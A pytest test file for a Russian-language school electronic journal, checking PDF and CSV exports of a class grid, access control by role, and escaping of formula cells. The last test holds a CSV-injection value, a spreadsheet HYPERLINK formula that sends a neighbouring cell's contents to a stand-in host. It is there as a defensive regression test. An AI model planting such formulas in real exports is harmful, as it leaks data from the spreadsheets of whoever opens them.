"""The journal as a document: a PDF in Russian and a CSV for Excel of a group × subject ×
term, for exactly those who may read the grid."""
import csv
import io
from datetime import timedelta

import pytest
from pypdf import PdfReader


@pytest.fixture(scope="module")
def filled(api, world, school):
    i = world.id
    on = world.today - timedelta(days=20)
    lesson = api.ok("teacher1", "POST", f"/loads/{school.maths_5a}/lessons", json={
        "date": on.isoformat(), "period": 2, "topic": "Сложение дробей", "homework": "№ 245, 246"})
    api.save_grid("teacher1", school.maths_5a, school.terms[2], body={
        "marks": [{"lesson_id": lesson["id"], "child_id": i("ivan"), "value": 5},
                  {"lesson_id": lesson["id"], "child_id": i("ivan"), "value": 4, "kind": "control"},
                  {"lesson_id": lesson["id"], "child_id": i("artem"), "value": 3}],
        "attendance": [{"lesson_id": lesson["id"], "child_id": i("maria"), "status": "absent_unexcused"}]})
    return lesson


def test_the_pdf_is_the_journal_page_in_russian(api, world, school, filled):
    response = api.as_("teacher1", "GET", f"/loads/{school.maths_5a}/journal.pdf?term_id={school.terms[2]}")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    assert response.data.startswith(b"%PDF") and len(response.data) > 2000
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(response.data)).pages)
    for words in ("Электронный журнал: 5А, Математика", "2-й триместр", "Петров Иван", "Александрова Мария",
                  "Сложение дробей", "№ 245, 246", "Teacher1 Тест", filled["date"][8:10] + "." + filled["date"][5:7]):
        assert words in text, words
    assert "Смирнова" not in text  # a pupil of 5Б


def test_the_csv_has_a_row_per_pupil_with_marks_and_attendance(api, world, school, filled):
    response = api.as_("tutor1", "GET", f"/loads/{school.maths_5a}/journal.csv?term_id={school.terms[2]}")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.data.startswith("\ufeff".encode("utf-8"))
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))
    header, topics, pupils = rows[0], rows[1], rows[2:]
    column = header.index(f"{filled['date'][8:10]}.{filled['date'][5:7]}.{filled['date'][:4]}")
    assert header[:2] == ["№", "Ученик"] and header[-2:] == ["Средний балл", "Итог за период"]
    assert topics[1] == "Тема урока" and topics[column] == "Сложение дробей"
    assert [p[1] for p in pupils] == ["Александрова Мария", "Борисов Артём", "Петров Иван"]
    by_name = {p[1]: p for p in pupils}
    assert by_name["Петров Иван"][column] == "5 4"
    assert by_name["Александрова Мария"][column] == "н"
    assert by_name["Борисов Артём"][column] == "3"
    assert by_name["Петров Иван"][-2] == "4,25"  # oral 5 (weight 1) and control 4 (weight 3)


def test_only_those_who_read_the_grid_get_the_document(api, world, school, filled):
    for fmt in ("pdf", "csv"):
        path = f"/loads/{school.maths_5a}/journal.{fmt}?term_id={school.terms[2]}"
        for login in ("teacher3", "teacher2", "admin2", "guardian1", "pupil1", "dept"):
            api.problem(login, "GET", path, 404)  # a load one may not read looks missing
        for login in ("teacher1", "tutor1", "deputy1", "admin1"):
            assert api.as_(login, "GET", path).status_code == 200
        api.problem("teacher1", "GET", f"/loads/{school.maths_5a}/journal.{fmt}?term_id={school.s2_term}", 404)
        assert "term_id" in api.problem("teacher1", "GET", f"/loads/{school.maths_5a}/journal.{fmt}?term_id=x",
                                        422)["errors"]


def test_a_topic_that_looks_like_a_formula_stays_text_in_the_csv(api, world, school):
    """Issue 11, low finding: CSV cells starting with = + - @ were not escaped, so a topic typed
    by one teacher ran as a formula in the spreadsheet of whoever opened the export."""
    on = world.today - timedelta(days=21)
    formula = '=HYPERLINK("http://example.invalid/?"&B3,"Тема")'
    api.ok("teacher1", "POST", f"/loads/{school.maths_5a}/lessons", json={
        "date": on.isoformat(), "period": 3, "topic": formula, "homework": "-"})
    response = api.as_("teacher1", "GET", f"/loads/{school.maths_5a}/journal.csv?term_id={school.terms[2]}")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))
    topics = rows[1]
    assert "'" + formula in topics and formula not in topics
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
